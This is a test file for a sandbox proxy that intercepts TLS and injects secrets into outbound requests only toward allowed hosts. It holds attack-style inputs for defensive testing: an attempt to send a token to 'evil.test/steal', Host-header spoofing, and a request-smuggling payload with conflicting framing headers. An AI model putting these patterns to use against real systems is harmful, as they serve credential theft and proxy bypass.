import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import * as tls from "node:tls";
import { GUEST_IP, type Rig, startRig, waitForResult } from "./harness.ts";
import { hostTrustStore, upstreamTrust } from "./intercept.ts";
import type { Secret } from "./substitute.ts";

const TOKEN = "sk-live-REALTOKEN-7c1d0a";
const PASS = "hunter2-REALPASS";
const BODYKEY = "REALBODYKEY-0123456789abcdef";
const QKEY = "REAL q&key/9";
const SECRETS: Secret[] = [
  { name: "TOKEN", value: TOKEN, allow: ["api.test"] },
  { name: "PASS", value: PASS, allow: ["api.test"] },
  { name: "BODYKEY", value: BODYKEY, allow: ["api.test"], body: true },
  { name: "QKEY", value: QKEY, allow: ["api.test"], query: true },
];
const VALUES = [TOKEN, PASS, BODYKEY, QKEY];

let rig: Rig;
beforeAll(async () => {
  rig = await startRig(SECRETS, { bypass: ["bypass.test"] });
});
afterAll(async () => {
  await rig?.stop();
});

async function sh(cmd: string[], stdin?: string): Promise<{ code: number; out: string; err: string }> {
  const p = Bun.spawn(cmd, { stdin: stdin === undefined ? "ignore" : new TextEncoder().encode(stdin), stdout: "pipe", stderr: "pipe" });
  const timer = setTimeout(() => p.kill(), 20_000);
  const [out, err, code] = await Promise.all([new Response(p.stdout).text(), new Response(p.stderr).text(), p.exited]);
  clearTimeout(timer);
  return { code, out, err };
}

function curl(host: string, path: string, args: string[] = [], ca = rig.msbCaFile) {
  return sh(["curl", "-sS", "--http1.1", "--cacert", ca, "--resolve", `${host}:${rig.port}:${GUEST_IP}`, ...args, `https://${host}:${rig.port}${path}`]);
}

/** Runs Python with `api.test` etc. resolving to the guest-side address and the msb CA trusted. */
function python(code: string) {
  const prelude = `
import socket, ssl, json, sys, time, http.client, urllib.request, base64
_orig = socket.getaddrinfo
def _gai(host, *a, **k):
    return _orig("${GUEST_IP}" if str(host).endswith(".test") else host, *a, **k)
socket.getaddrinfo = _gai
PORT = ${rig.port}
CTX = ssl.create_default_context(cafile=${JSON.stringify(rig.msbCaFile)})
def raw(host, pieces, pause=0.05):
    s = CTX.wrap_socket(socket.create_connection(("${GUEST_IP}", PORT)), server_hostname=host)
    for p in pieces:
        s.sendall(p.encode("latin1")); time.sleep(pause)
    s.settimeout(5)
    data = b""
    try:
        while True:
            d = s.recv(65536)
            if not d: break
            data += d
            if b"\\r\\n\\r\\n" in data and (b"Connection: close" in data or b'"body"' in data): break
    except Exception as e:
        pass
    s.close()
    return data.decode("latin1")
`;
  return sh(["python3", "-c", prelude + code]);
}

const lastSeen = () => rig.seen[rig.seen.length - 1]!;

describe("TLS interception with real clients", () => {
  test("curl: header placeholder is replaced toward the allowed host", async () => {
    const r = await curl("api.test", "/h", ["-H", "Authorization: Bearer $MSB_TOKEN", "-H", "X-Other: $MSB_UNKNOWN"]);
    expect(r.err).toBe("");
    expect(lastSeen().headers.authorization).toBe(`Bearer ${TOKEN}`);
    expect(lastSeen().headers["x-other"]).toBe("$MSB_UNKNOWN");
    // The echo reflects the header back; the guest sees it masked, not the value.
    expect(r.out).not.toContain(TOKEN);
    expect(JSON.parse(r.out).headers.authorization).toBe(`Bearer ${"*".repeat(TOKEN.length)}`);
    expect(rig.logs.some((l) => l.includes("api.test GET") && l.includes("secrets=TOKEN"))).toBe(true);
  });

  test("curl: Basic auth with the placeholder as password", async () => {
    await curl("api.test", "/basic", ["-u", "alice:$MSB_PASS"]);
    expect(lastSeen().headers.authorization).toBe(`Basic ${Buffer.from(`alice:${PASS}`).toString("base64")}`);
  });

  test("curl: body placeholder with Content-Length rewritten", async () => {
    const body = "key=$MSB_BODYKEY&x=1";
    const r = await curl("api.test", "/form", ["--data-binary", body]);
    expect(r.err).toBe("");
    expect(lastSeen().body).toBe(`key=${BODYKEY}&x=1`);
    expect(lastSeen().headers["content-length"]).toBe(String(`key=${BODYKEY}&x=1`.length));
  });

  test("curl: chunked upload with the placeholder in the body", async () => {
    const r2 = await sh(["curl", "-sS", "--http1.1", "--cacert", rig.msbCaFile, "--resolve", `api.test:${rig.port}:${GUEST_IP}`, "-H", "Transfer-Encoding: chunked", "--data-binary", "@-", `https://api.test:${rig.port}/chunked`], `a=1&k=$MSB_BODYKEY&${"z".repeat(70000)}`);
    expect(r2.err).toBe("");
    expect(lastSeen().headers["transfer-encoding"]).toBe("chunked");
    expect(lastSeen().body).toBe(`a=1&k=${BODYKEY}&${"z".repeat(70000)}`);
  });

  test("curl: placeholder toward a host not allowed is blocked with the reason", async () => {
    const before = rig.seen.length;
    const r = await curl("evil.test", "/steal", ["-H", "Authorization: Bearer $MSB_TOKEN", "-w", "%{http_code}"]);
    expect(r.out).toContain("msb: blocked: secret TOKEN is not allowed for host evil.test");
    expect(r.out.endsWith("403")).toBe(true);
    expect(rig.seen.length).toBe(before);
    expect(await waitForResult(rig, (x) => x.serverName === "evil.test" && x.stop?.reason === "secret TOKEN is not allowed for host evil.test")).toBe(true);
  });

  test("curl: SNI api.test but Host evil.test is blocked", async () => {
    const r = await curl("api.test", "/", ["-H", `Host: evil.test:${rig.port}`, "-H", "X-K: $MSB_TOKEN"]);
    expect(r.out).toContain("does not match TLS server name api.test");
  });

  test("curl: bypass host is relayed opaquely (guest sees the real certificate, no substitution)", async () => {
    const viaMsbCa = await curl("bypass.test", "/b");
    expect(viaMsbCa.code).not.toBe(0); // the real upstream certificate is not signed by the msb CA
    const r = await curl("bypass.test", "/b", ["-H", "X-K: $MSB_TOKEN"], rig.upstreamCaFile);
    expect(r.err).toBe("");
    expect(JSON.parse(r.out).headers["x-k"]).toBe("$MSB_TOKEN");
    expect(await waitForResult(rig, (x) => x.mode === "bypassed" && x.serverName === "bypass.test")).toBe(true);
  });

  test("curl: query placeholder (raw and percent-encoded) for a secret that asks for it", async () => {
    const r = await curl("api.test", "/q?k=$MSB_QKEY&p=%24MSB_QKEY&t=$MSB_TOKEN");
    expect(r.err).toBe("");
    const enc = encodeURIComponent(QKEY);
    expect(lastSeen().path).toBe(`/q?k=${enc}&p=${enc}&t=$MSB_TOKEN`);
  });

  test("curl: destination not resolved by this sandbox for the name: blocked", async () => {
    const saved = rig.policy.resolvedFor;
    rig.policy.resolvedFor = () => false;
    try {
      const r = await curl("api.test", "/pin", ["-H", "X-K: $MSB_TOKEN", "-w", "%{http_code}"]);
      expect(r.out).toContain("msb: blocked: secret TOKEN: destination address was not resolved by this sandbox for api.test");
      expect(r.out.endsWith("403")).toBe(true);
    } finally {
      rig.policy.resolvedFor = saved;
    }
  });

  test("python urllib: header substitution and masked echo", async () => {
    const r = await python(`
req = urllib.request.Request(f"https://api.test:{PORT}/py", headers={"X-Api-Key": "$MSB_TOKEN"})
print(urllib.request.urlopen(req, context=CTX).read().decode())
`);
    expect(r.err).toBe("");
    expect(lastSeen().headers["x-api-key"]).toBe(TOKEN);
    expect(r.out).not.toContain(TOKEN);
  });

  test("python http.client: keep-alive second request to another Host is blocked, first substituted", async () => {
    const before = rig.seen.length;
    const r = await python(`
c = http.client.HTTPSConnection("api.test", PORT, context=CTX)
c.request("GET", "/one", headers={"X-K": "$MSB_TOKEN"})
r1 = c.getresponse(); r1.read(); print(r1.status)
c.request("GET", "/two", headers={"Host": "evil.test", "X-K": "$MSB_TOKEN"})
r2 = c.getresponse(); print(r2.status, r2.read().decode().strip())
`);
    expect(r.err).toBe("");
    expect(r.out.trim().split("\n")).toEqual(["200", `403 msb: blocked: secret TOKEN: request Host "evil.test" does not match TLS server name api.test`]);
    expect(rig.seen.slice(before).map((s) => [s.path, s.headers["x-k"]])).toEqual([["/one", TOKEN]]);
  });

  test("python: placeholder split across TLS records is found", async () => {
    const r = await python(`
print(raw("api.test", ["GET /split HTTP/1.1\\r\\nHost: api.test\\r\\nX-K: Bearer $MS", "B_TO", "KEN\\r\\nConnection: close\\r\\n", "\\r\\n"]))
`);
    expect(r.out).toContain("HTTP/1.1 200");
    expect(lastSeen().path).toBe("/split");
    expect(lastSeen().headers["x-k"]).toBe(`Bearer ${TOKEN}`);
  });

  test("python: ambiguous framing is refused with 400", async () => {
    const before = rig.seen.length;
    const r = await python(`
print(raw("api.test", ["POST /smuggle HTTP/1.1\\r\\nHost: api.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n"]))
`);
    expect(r.out).toContain("HTTP/1.1 400 Bad Request");
    expect(r.out).toContain("both Content-Length and Transfer-Encoding");
    expect(rig.seen.length).toBe(before);
  });

  test("a ClientHello-less flow is refused, and the reason recorded", async () => {
    const r = await python(`
s = socket.create_connection(("${GUEST_IP}", PORT)); s.sendall(b"GET / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n"); s.settimeout(3)
try:
    print(repr(s.recv(100)))
except Exception as e:
    print("err", e)
`);
    expect(r.out.trim()).toBe("b''");
    expect(await waitForResult(rig, (x) => x.mode === "refused" && !!x.error?.includes("not a TLS ClientHello"))).toBe(true);
  });

  test("upstream certificate that does not verify: the guest gets a 502 naming the failure", async () => {
    const r = await curl("not-in-cert.test", "/", ["-w", "%{http_code}"]);
    expect(r.out).toContain("msb: upstream not-in-cert.test");
    expect(r.out.endsWith("502")).toBe(true);
  });

  test("node https with NODE_EXTRA_CA_CERTS: header substitution", async () => {
    const script = `
const https = require("https");
const req = https.request({ host: "api.test", port: ${rig.port}, path: "/node", headers: { "x-node-key": "$MSB_TOKEN" },
  lookup: (h, o, cb) => o && o.all ? cb(null, [{ address: "${GUEST_IP}", family: 4 }]) : cb(null, "${GUEST_IP}", 4) }, (res) => {
  let b = ""; res.on("data", (d) => (b += d)); res.on("end", () => console.log(res.statusCode, b.length));
});
req.on("error", (e) => { console.error(e.message); process.exit(1); });
req.end();`;
    const p = Bun.spawn(["node", "-e", script], { env: { ...process.env, NODE_EXTRA_CA_CERTS: rig.msbCaFile }, stdout: "pipe", stderr: "pipe" });
    const [out, err] = await Promise.all([new Response(p.stdout).text(), new Response(p.stderr).text(), p.exited]);
    expect(err).toBe("");
    expect(out).toStartWith("200 ");
    expect(lastSeen().headers["x-node-key"]).toBe(TOKEN);
  });

  test("curl --http2: ALPN settles on HTTP/1.1 and substitution still happens", async () => {
    const r = await curl("api.test", "/h2", ["--http2", "-H", "X-K: $MSB_TOKEN", "-w", "\\n%{http_version}"]);
    expect(r.err).toBe("");
    expect(r.out.trim().endsWith("1.1")).toBe(true);
    expect(lastSeen().headers["x-k"]).toBe(TOKEN);
  });

  test("an HTTP/2 preface without ALPN h2 is refused and never reaches the upstream", async () => {
    const before = rig.seen.length;
    const r = await python(`print(raw("api.test", ["PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n"]))`);
    expect(r.out).toContain("HTTP/1.1 400 Bad Request");
    expect(r.out).toContain("HTTP/2 without ALPN");
    expect(rig.seen.length).toBe(before);
  });

  // Runs last (bun runs tests in file order): covers every flow of this file.
  test("no log line or result of any flow above holds a secret value", () => {
    expect(rig.logs.length).toBeGreaterThan(10);
    expect(rig.results.length).toBeGreaterThan(10);
    const all = JSON.stringify({ logs: rig.logs, results: rig.results });
    for (const v of VALUES) expect(all.includes(v)).toBe(false);
  });
});

describe("upstream trust", () => {
  const verify = (context: ReturnType<typeof upstreamTrust>) =>
    new Promise<string>((resolve) => {
      const s = tls.connect({ host: "127.0.0.1", port: rig.port, servername: "api.test", secureContext: context });
      s.on("secureConnect", () => { resolve(s.authorized ? "verified" : "not verified"); s.destroy(); });
      s.on("error", (e) => resolve(e.message));
    });

  test("a CA in the host's bundle (SSL_CERT_FILE) is trusted upstream without extraCa; without it the upstream is refused", async () => {
    const dir = mkdtempSync(join(tmpdir(), "msb-trust-"));
    const bundle = join(dir, "bundle.crt");
    writeFileSync(bundle, `# a host bundle\n${tls.rootCertificates[0]}\n${rig.upstreamCaPem}\n`);
    expect(hostTrustStore({ SSL_CERT_FILE: bundle }).length).toBe(2);
    // A missing SSL_CERT_FILE falls back to the distro bundle paths.
    expect(hostTrustStore({ SSL_CERT_FILE: join(dir, "missing") })).toEqual(hostTrustStore({}));
    const saved = process.env.SSL_CERT_FILE;
    process.env.SSL_CERT_FILE = bundle;
    try {
      expect(await verify(upstreamTrust({ ...rig.policy, extraCa: [] }))).toBe("verified");
    } finally {
      if (saved === undefined) delete process.env.SSL_CERT_FILE;
      else process.env.SSL_CERT_FILE = saved;
    }
    const withoutHostCa = { ...rig.policy, extraCa: [] };
    const context = upstreamTrust(withoutHostCa);
    expect(await verify(context)).toMatch(/unable to verify|self.signed|certificate/i);
    // One context per policy: built once, reused by every connection.
    expect(upstreamTrust(withoutHostCa)).toBe(context);
    rmSync(dir, { recursive: true, force: true });
  });
});
